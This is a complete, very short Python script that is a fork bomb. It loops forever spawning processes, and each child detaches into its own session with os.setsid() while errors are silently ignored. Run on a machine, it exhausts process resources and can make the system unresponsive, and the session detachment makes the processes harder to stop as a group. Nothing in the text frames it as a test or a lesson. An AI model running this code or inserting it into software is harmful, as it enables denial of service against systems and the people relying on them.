#!/usr/bin/python3 -IS
# Forks without end, and each child does the same, in sessions of their own.
import os
while True:
    try:
        if os.fork() == 0:
            os.setsid()
    except OSError:
        pass
